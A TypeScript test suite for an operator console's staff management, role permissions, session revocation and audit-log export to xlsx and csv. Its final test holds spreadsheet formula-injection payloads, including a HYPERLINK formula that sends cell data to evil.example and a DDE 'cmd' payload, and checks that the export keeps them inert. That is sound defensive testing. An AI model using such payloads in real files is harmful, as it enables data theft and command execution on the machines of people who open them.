import { STAFF_OPERATOR_ROUTES, STAFF_ROLES, type StaffRole, staffMayCall } from '@jetkiz/contract';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixtures } from '../../../../test/fixtures.ts';
import { buildTestApp, type TestApp } from '../../../../test/helper.ts';
import { type StaffSession, staffSession } from '../../../../test/staff.ts';

/**
 * Staff management and the audit log (issue 18): the role × route matrix of this part's routes, what each change does
 * to sessions, the administrator's own role and access staying put, the search's filters and the export.
 */
let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp();
});
afterAll(async () => {
  await t?.close();
});

const { user } = fixtures(() => t, '77423');
const call = (method: string, url: string, headers: Record<string, string>, payload?: object) =>
  t.app.inject({
    method: method as 'GET',
    url,
    headers: { 'accept-language': 'RU', ...headers },
    ...(payload && { payload }),
  });
const UNKNOWN = '00000000-0000-4000-8000-000000000000';
/** A plausible request of each route (the matrix checks who may call, not what the call does). */
const REQUESTS: Record<string, { url: string; payload?: object }> = {
  operatorMe: { url: '/api/operator/me' },
  staffSignOut: { url: '/api/operator/auth/sign-out' },
  listStaff: { url: '/api/operator/staff' },
  createStaff: { url: '/api/operator/staff', payload: { phone: '+7 742 300 00 00', name: 'Матрица', role: 'viewer' } },
  changeStaffRole: { url: `/api/operator/staff/${UNKNOWN}/role`, payload: { role: 'viewer', reason: 'проверка' } },
  setStaffStatus: { url: `/api/operator/staff/${UNKNOWN}/status`, payload: { status: 'active', reason: 'проверка' } },
  resetStaffTotp: { url: `/api/operator/staff/${UNKNOWN}/reset-totp`, payload: { reason: 'проверка' } },
  searchAudit: { url: '/api/operator/audit' },
  exportAudit: { url: '/api/operator/audit/export?format=csv' },
};

describe('the role × route matrix of staff and audit routes', () => {
  const cases = STAFF_OPERATOR_ROUTES.flatMap((route) =>
    STAFF_ROLES.map((role) => ({ route, role, allowed: staffMayCall(role, route.staffRoles) })),
  );

  it.each(cases)('$route.schema.operationId as $role: allowed $allowed', async ({ route, role, allowed }) => {
    const request = REQUESTS[route.schema.operationId];
    if (!request) throw new Error(`no request for ${route.schema.operationId}`);
    const staff = await staffSession(t, role, '77424');
    const answer = await call(route.method, request.url, staff.headers, request.payload);
    if (allowed) expect([401, 403]).not.toContain(answer.statusCode);
    else {
      expect(answer.statusCode).toBe(403);
      expect(answer.json()).toMatchObject({ errorCode: 'STAFF_ROLE_REQUIRED', message: 'Вашей роли это действие недоступно' });
      if (route.writes) {
        const lines = await t.app.operator.audit.search({ staffId: staff.staffId, action: route.schema.operationId });
        expect(lines.content[0]).toMatchObject({ outcome: 'refused', errorCode: 'STAFF_ROLE_REQUIRED', staffRole: role });
      }
    }
  });

  it.each([...STAFF_OPERATOR_ROUTES])('$schema.operationId with a customer token: 401', async (route) => {
    const customer = await user('company');
    const request = REQUESTS[route.schema.operationId] ?? { url: '' };
    const answer = await call(route.method, request.url, { authorization: `Bearer ${customer.token}` }, request.payload);
    expect(answer.statusCode).toBe(401);
  });
});

describe('staff management', () => {
  let admin: StaffSession;
  beforeAll(async () => {
    admin = await staffSession(t, 'administrator', 'Гүлнар Әбілқасымова');
  });

  it('creates a staff member with a password shown once, and refuses a phone that exists', async () => {
    const phone = `+7 742 5${String(Date.now()).slice(-6)}`;
    const created = await call('POST', '/api/operator/staff', admin.headers, {
      phone,
      name: 'Дәурен Сейітов',
      role: 'accountant',
    });
    expect(created.statusCode).toBe(200);
    expect(created.json().staff).toMatchObject({ role: 'accountant', status: 'active', enrolled: false, lastSignInAt: null });
    const again = await call('POST', '/api/operator/staff', admin.headers, { phone, name: 'Кто-то', role: 'viewer' });
    expect(again.statusCode).toBe(409);
    expect(again.json()).toMatchObject({ errorCode: 'STAFF_PHONE_TAKEN', message: 'Сотрудник с этим номером уже есть' });
    const list = await call('GET', `/api/operator/staff?search=${encodeURIComponent('Дәурен')}`, admin.headers);
    expect(list.json().content.map((m: { name: string }) => m.name)).toEqual(['Дәурен Сейітов']);
  });

  it('ends the sessions of a staff member disabled, given another role, or whose TOTP is reset', async () => {
    for (const change of ['status', 'role', 'reset-totp'] as const) {
      const member = await staffSession(t, 'operator', '77424');
      expect((await call('GET', '/api/operator/me', member.headers)).statusCode).toBe(200);
      const body =
        change === 'status'
          ? { status: 'disabled', reason: 'увольнение' }
          : change === 'role'
            ? { role: 'viewer', reason: 'перевод' }
            : { reason: 'новый телефон' };
      const done = await call(
        change === 'reset-totp' ? 'POST' : 'PUT',
        `/api/operator/staff/${member.staffId}/${change}`,
        admin.headers,
        body,
      );
      expect(done.statusCode).toBe(200);
      expect((await call('GET', '/api/operator/me', member.headers)).statusCode).toBe(401);
      const [line] = (await t.app.operator.audit.search({ targetId: member.staffId, outcome: 'done' })).content;
      expect(line).toMatchObject({ staffId: admin.staffId, targetType: 'staff', reason: body.reason });
      if (change !== 'reset-totp') expect(line?.before).not.toEqual(line?.after);
    }
  });

  it("keeps an administrator's own role and access, and says why", async () => {
    const admin = await staffSession(t, 'administrator', '77424');
    const own = await call('PUT', `/api/operator/staff/${admin.staffId}/status`, admin.headers, {
      status: 'disabled',
      reason: 'ошибка',
    });
    expect(own.statusCode).toBe(409);
    expect(own.json().errorCode).toBe('STAFF_SELF_CHANGE');
    const missing = await call('PUT', `/api/operator/staff/${UNKNOWN}/role`, admin.headers, {
      role: 'viewer',
      reason: 'нет такого',
    });
    expect(missing.statusCode).toBe(404);
    const short = await call('PUT', `/api/operator/staff/${UNKNOWN}/role`, admin.headers, { role: 'viewer', reason: 'a' });
    expect(short.statusCode).toBe(400);
    const refused = (await t.app.operator.audit.search({ staffId: admin.staffId, outcome: 'refused' })).content;
    expect(refused.map((line) => line.errorCode).sort()).toEqual(['NOT_FOUND', 'STAFF_SELF_CHANGE', 'VALIDATION']);
  });
});

describe('two administrators changing each other at once', () => {
  const statusOf = async (staffId: string) => (await t.app.operator.getStaff(staffId)).status;

  it.each([
    ['status', { status: 'disabled', reason: 'взаимное отключение' }],
    ['role', { role: 'viewer', reason: 'взаимное понижение' }],
  ] as const)('by %s: one wins, the other is no longer an administrator, the console keeps one', async (change, body) => {
    const first = await staffSession(t, 'administrator', '77424');
    const second = await staffSession(t, 'administrator', '77424');
    const answers = await Promise.all([
      call('PUT', `/api/operator/staff/${second.staffId}/${change}`, first.headers, body),
      call('PUT', `/api/operator/staff/${first.staffId}/${change}`, second.headers, body),
    ]);
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 401]);
    const members = await Promise.all([first, second].map((m) => t.app.operator.getStaff(m.staffId)));
    expect(members.filter((m) => m.status === 'active' && m.role === 'administrator')).toHaveLength(1);
  });

  it('refuses the change of an administrator whose request passed the guard just before it was disabled', async () => {
    const first = await staffSession(t, 'administrator', '77424');
    const second = await staffSession(t, 'administrator', '77424');
    const done = await call('PUT', `/api/operator/staff/${second.staffId}/status`, first.headers, {
      status: 'disabled',
      reason: 'увольнение',
    });
    expect(done.statusCode).toBe(200);
    // The second administrator's own call, already past the guard when the first change committed.
    const late = t.app.operator.setStaffStatus(
      { staffId: second.staffId, name: second.name, role: 'administrator' },
      first.staffId,
      'disabled',
    );
    await expect(late).rejects.toMatchObject({ code: 'UNAUTHORIZED' });
    expect(await statusOf(first.staffId)).toBe('active');
  });
});

describe('the audit log search and export', () => {
  it('filters by staff member, action, outcome and day, pages, and exports xlsx and csv (the export audited)', async () => {
    const admin = await staffSession(t, 'administrator', '77424');
    const viewer: StaffSession = await staffSession(t, 'viewer' as StaffRole, '77424');
    await call('POST', '/api/operator/staff', viewer.headers, { phone: '+7 742 300 00 01', name: 'Нет', role: 'viewer' });
    await call('POST', '/api/operator/auth/sign-out', viewer.headers);
    const today = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Asia/Almaty' }).format(new Date(t.app.operator.now()));
    const search = (query: string) => call('GET', `/api/operator/audit?${query}`, admin.headers).then((r) => r.json());
    expect((await search(`staffId=${viewer.staffId}`)).totalElements).toBe(2);
    expect((await search(`staffId=${viewer.staffId}&outcome=refused`)).content[0]).toMatchObject({ action: 'createStaff' });
    expect((await search(`staffId=${viewer.staffId}&from=${today}&to=${today}`)).totalElements).toBe(2);
    expect((await search(`staffId=${viewer.staffId}&to=2020-01-01`)).totalElements).toBe(0);
    const paged = await search(`staffId=${viewer.staffId}&itemsPerPage=1&page=1`);
    expect(paged).toMatchObject({ totalElements: 2, page: 1, itemsPerPage: 1 });
    expect(paged.content[0].action).toBe('createStaff');
    expect((await call('GET', '/api/operator/audit?from=2026-13-01', admin.headers)).statusCode).toBe(400);

    const xlsx = await call('GET', `/api/operator/audit/export?staffId=${viewer.staffId}`, admin.headers);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-disposition']).toContain('audit-log.xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet?.getRow(1).getCell(1).value).toBe('Время (Алматы)');
    expect(sheet?.rowCount).toBe(3);
    // Names an administrator reads, with the codes beside them (the refused staff creation is the older line).
    const refusedRow = sheet?.getRow(3).values as unknown[];
    expect(refusedRow).toEqual(
      expect.arrayContaining(['Добавление сотрудника', 'createStaff', 'отказано', 'Вашей роли это действие недоступно']),
    );
    const csv = await call('GET', `/api/operator/audit/export?format=csv&staffId=${viewer.staffId}`, {
      ...admin.headers,
      'accept-language': 'EN',
    });
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toMatch(/^Time \(Almaty\),Staff member,Role,Action/);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(',Console sign-out,staffSignOut,Staff member,');
    expect(lines[2]).toContain(',Staff member added,createStaff,');
    expect(lines[2]).toContain(',refused,STAFF_ROLE_REQUIRED,Your role does not allow this action,');
    const exports = (await t.app.operator.audit.search({ staffId: admin.staffId, action: 'exportAudit' })).content;
    expect(exports).toHaveLength(2);
    expect(exports[0]?.after).toMatchObject({ format: 'csv', lines: 2 });
  });

  it('writes each line’s time in Almaty as DD.MM.YYYY: a date cell in xlsx, «07.12.2026 16:55:00» in csv', async () => {
    const admin = await staffSession(t, 'administrator', '77424');
    const viewer = await staffSession(t, 'viewer', '77424');
    await call('POST', '/api/operator/auth/sign-out', viewer.headers);
    const [line] = (await t.app.operator.audit.search({ staffId: viewer.staffId })).content;
    if (!line) throw new Error('no audit line');
    // Almaty's wall time of the line, as the product writes a moment (UTC+5).
    const wall = new Date(new Date(line.at).getTime() + 5 * 3_600_000);
    const p2 = (n: number) => String(n).padStart(2, '0');
    const written =
      `${p2(wall.getUTCDate())}.${p2(wall.getUTCMonth() + 1)}.${wall.getUTCFullYear()} ` +
      `${p2(wall.getUTCHours())}:${p2(wall.getUTCMinutes())}:${p2(wall.getUTCSeconds())}`;

    const xlsx = await call('GET', `/api/operator/audit/export?staffId=${viewer.staffId}`, admin.headers);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cell = book.worksheets[0]?.getRow(2).getCell(1);
    if (!cell) throw new Error('no time cell');
    expect(cell.value).toBeInstanceOf(Date);
    expect((cell.value as Date).getTime()).toBe(Math.floor(wall.getTime() / 1000) * 1000);
    expect(cell.numFmt).toBe('dd.mm.yyyy hh:mm:ss');

    const csv = await call('GET', `/api/operator/audit/export?format=csv&staffId=${viewer.staffId}`, admin.headers);
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[1]?.startsWith(`${written},`)).toBe(true);
  });

  it('keeps text that a spreadsheet could run as a formula inert in the export, past leading blanks and in full width', async () => {
    const admin = await staffSession(t, 'administrator', '77424');
    // Anyone may leave a refused line (no token at all): its target is the path's id, as typed.
    const targets = [' =HYPERLINK("http://evil.example/?"&A1)', "\uff1dcmd|' /C calc'!A0", '\t\t@SUM(1+1)'];
    for (const target of targets) {
      const refused = await call('POST', `/api/operator/customers/${encodeURIComponent(target)}/unblock`, {}, { reason: 'x' });
      expect(refused.statusCode).toBe(401);
    }
    const csv = await call('GET', '/api/operator/audit/export?format=csv&action=operatorUnblockCustomer&outcome=refused', {
      ...admin.headers,
      'accept-language': 'EN',
    });
    expect(csv.statusCode).toBe(200);
    for (const target of targets) {
      expect(csv.body).toContain(`'${target.replace(/"/g, '""')}`);
    }
    const xlsx = await call('GET', '/api/operator/audit/export?action=operatorUnblockCustomer&outcome=refused', admin.headers);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells = (book.worksheets[0]?.getColumn(7).values ?? []).filter((v): v is string => typeof v === 'string');
    for (const target of targets) expect(cells).toContain(`'${target}`);
  });
});
